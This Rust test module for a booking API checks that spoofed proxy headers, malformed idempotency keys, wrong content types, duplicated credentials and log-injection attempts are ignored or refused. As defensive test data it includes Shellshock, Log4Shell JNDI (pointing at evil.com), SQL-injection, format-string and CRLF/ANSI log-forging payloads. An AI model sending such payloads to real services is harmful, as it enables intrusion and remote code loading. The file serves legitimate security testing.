//! Headers that are too long, sent twice, of the wrong type, or that try to inject log lines.

use serde_json::Value;

use super::{Case, Expect, Fits, by_http_and_event};
use crate::{
    security::fixture::Fixture,
    support::routes::{self, Route},
};

/// Headers about the request's path through proxies. AWS sets them. Locally and
/// in events, anybody can.
fn about_the_way(fixture: &Fixture) -> Vec<Case> {
    let right = fixture.right(&routes::find("GET", "/bookings"));
    let mut cases = Vec::new();
    let rows = [
        (
            "x-forwarded-for",
            vec![
                "10.0.0.1",
                "127.0.0.1, 10.0.0.1",
                "::1",
                "not an address",
                "'; DROP TABLE x",
                "unknown",
            ],
        ),
        (
            "x-forwarded-proto",
            vec![
                "http",
                "HTTPS",
                "https,http",
                "javascript",
                "1",
                "h ttps",
                "https://evil.com/",
                "://",
            ],
        ),
        ("x-forwarded-port", vec!["0", "65536", "-1", "port"]),
        ("x-forwarded-host", vec!["evil.com", "evil.com:99999"]),
        ("forwarded", vec!["for=10.0.0.1;host=evil.com;proto=http"]),
        ("user-agent", vec!["() { :; }; /bin/true", "${jndi:ldap://evil.com/a}", "%s%s%n"]),
        ("cookie", vec!["session=admin", "a=b; a=c"]),
        ("accept", vec!["text/html", "*/*;q=nan"]),
        ("range", vec!["bytes=0-0,-1"]),
        ("accept-encoding", vec!["gzip;q=0, *"]),
    ];
    for (name, values) in rows {
        for value in values {
            let case = Case::new(
                format!("{name}: {value}"),
                right.clone().header(name, value),
                Expect::Ignored(200, ""),
            );
            cases.push(case);
        }
        let long = right.clone().header(name, "x".repeat(8_000));
        cases.push(Case::new(
            format!("{name} of 8,000 characters"),
            long,
            Expect::Ignored(200, ""),
        ));
    }
    for host in [
        "evil.com",
        "evil.com:99999",
        "a b",
        "",
        "[::1",
        "evil.com/path",
        "user@evil.com",
        "evil.com#",
    ] {
        let case = Case::new(
            format!("host: {host:?}"),
            right.clone().header("host", host),
            Expect::Ignored(200, ""),
        );
        cases.push(case.fits(Fits::Events));
    }
    cases
}

#[tokio::test]
async fn headers_about_proxies_are_not_trusted() {
    by_http_and_event(about_the_way).await;
}

fn keyed() -> Vec<Route> {
    let routes = [
        ("POST", "/reserve-seat"),
        ("POST", "/confirm-booking"),
        ("POST", "/release-seat"),
        ("POST", "/admin/seats"),
    ];
    routes.iter().map(|(method, pattern)| routes::find(method, pattern)).collect()
}

fn idempotency_keys(fixture: &Fixture) -> Vec<Case> {
    let mut cases = Vec::new();
    for route in keyed() {
        let right = fixture.right(&route);
        let mut case = |key: &str, fits: Fits| {
            let what = format!("the key {:?}", key.chars().take(40).collect::<String>());
            let request = right.clone().header("idempotency-key", key);
            cases.push(Case::field(what, request, "Idempotency-Key").fits(fits));
        };
        for key in ["", "a b", &"k".repeat(256), &"k".repeat(8_000)] {
            case(key, Fits::All);
        }
        for key in ["a\tb", "é", "\u{2028}"] {
            case(key, Fits::Events);
        }
    }
    cases
}

#[tokio::test]
async fn a_malformed_idempotency_key_is_refused() {
    by_http_and_event(idempotency_keys).await;
}

fn content_types(fixture: &Fixture) -> Vec<Case> {
    let mut cases = Vec::new();
    for route in routes::all().iter().filter(|route| route.body.is_some()) {
        let right = fixture.right(route);
        let refused =
            |what: String, request| Case::error(what, request, 415, "UNSUPPORTED_MEDIA_TYPE");
        for kind in [
            "text/plain",
            "text/html",
            "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded",
            "application/xml",
            "application/json-patch+json",
            "application/jsonp",
            "application/json, text/plain",
            "json",
            "*/*",
            "",
            ";",
        ] {
            cases.push(refused(
                format!("content-type: {kind}"),
                right.clone().header("content-type", kind),
            ));
        }
        cases.push(refused(
            "8,000 characters".to_owned(),
            right.clone().header("content-type", "x".repeat(8_000)),
        ));
        cases.push(refused("no content-type".to_owned(), right.clone().without("content-type")));
        let two = right.clone().also("content-type", "text/plain");
        cases.push(refused("two content-types".to_owned(), two));
        let text = String::from_utf8(right.body.clone().expect("a body")).expect("text");
        let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
        let request =
            right.clone().header("content-type", "application/json; charset=utf-16").body(utf16);
        cases.push(Case::error("UTF-16, as it says", request, 400, "INVALID_JSON"));
    }
    cases
}

#[tokio::test]
async fn a_body_of_another_type_is_refused_unread() {
    by_http_and_event(content_types).await;
}

fn twice(fixture: &Fixture) -> Vec<Case> {
    let right = fixture.right(&routes::find("GET", "/bookings"));
    let (tenant, other) = (&fixture.tenant, &fixture.eve.tenant);
    let mut cases = Vec::new();
    for (name, value, status, code) in [
        ("authorization", "Bearer garbage".to_owned(), 401, "UNAUTHENTICATED"),
        ("authorization", format!("Bearer {}", fixture.eve.token), 401, "UNAUTHENTICATED"),
        ("x-api-key", other.api_key.clone(), 401, "INVALID_APP_CREDENTIALS"),
        ("x-api-key", tenant.api_key.clone(), 401, "INVALID_APP_CREDENTIALS"),
    ] {
        let what = format!("{name} twice");
        cases.push(Case::error(what, right.clone().also(name, value), status, code));
    }
    // Two ids count as none. Nothing reveals this, not even the time.
    let ids = right.clone().also("x-app-id", &other.app_id);
    cases.push(Case::error("x-app-id twice", ids, 401, "INVALID_APP_CREDENTIALS").hashing(1));
    cases
}

#[tokio::test]
async fn a_credential_that_is_sent_twice_is_refused() {
    by_http_and_event(twice).await;
}

/// Line breaks and colours in every value that could be logged: each log line stays one
/// object with known fields.
#[tokio::test]
async fn no_request_can_inject_log_lines() {
    const MARK: &str = "forged-by-a-stranger";
    let fixture = Fixture::shared().await;
    let line = format!("x\r\n{{\"level\":\"ERROR\",\"message\":\"{MARK}\"}}\u{1b}[2J\u{2028}\u{0}");
    let visible = format!("x%0d%0a{{\"level\":\"ERROR\",\"message\":\"{MARK}\"}}%1b[2J");
    let processes = fixture.all_processes().await;
    for route in routes::all() {
        let right = fixture.right(&route);
        let mut requests = vec![
            right.clone().target(format!("{}/{visible}", route.path.split('?').next().unwrap())),
        ];
        for name in [
            "x-app-id",
            "x-api-key",
            "origin",
            "authorization",
            "user-agent",
            "x-amzn-trace-id",
            "idempotency-key",
        ] {
            requests.push(right.clone().header(name, &visible));
        }
        let glue = if route.path.contains('?') { '&' } else { '?' };
        requests.push(right.clone().target(format!("{}{glue}{visible}={visible}", route.path)));
        if let Some(Value::Object(body)) = &route.body {
            for name in body.keys() {
                let mut spoiled = Value::Object(body.clone());
                spoiled[name] = line.clone().into();
                requests.push(right.clone().json(&spoiled));
            }
        }
        for request in requests {
            // Only as an event: the local gateway sends other paths to other functions.
            let process = processes.of(route.function());
            let reply =
                process.call(&request.event(true), crate::security::request::DEADLINE).await;
            assert!(reply.status < 500, "{reply}");
        }
    }
    for function in routes::all().iter().map(Route::function) {
        let log = processes.of(function).log();
        assert!(!log.contains(MARK), "{function}: {log}");
        assert!(log.lines().count() > 5, "{function} logs nothing");
        for line in log.lines() {
            let entry: Value =
                serde_json::from_str(line).unwrap_or_else(|e| panic!("{function}: {e}: {line}"));
            let known = [
                "timestamp",
                "level",
                "message",
                "request_id",
                "method",
                "route",
                "status",
                "code",
                "outcome",
                "app",
                "user",
                "entity",
                "duration_ms",
                "lock_acquire_ms",
                "cause",
                // A line of the start.
                "secrets_ms",
                "clients_ms",
                "mongodb_ms",
                "redis_ms",
                "total_ms",
            ];
            // A line of metrics: a client could try to forge one.
            let metrics = ["timestamp", "level", "_aws", "Service", "Domain"];
            let is_known = |key: &str| match entry.get("_aws") {
                None => known.contains(&key),
                Some(_) => metrics.contains(&key) || shared::metrics::NAMES.contains(&key),
            };
            let stranger = entry.as_object().unwrap().keys().find(|key| !is_known(key));
            assert!(stranger.is_none(), "{function}: {line}");
            assert!(!line.contains('\u{1b}'), "{function}: {line}");
        }
    }
}
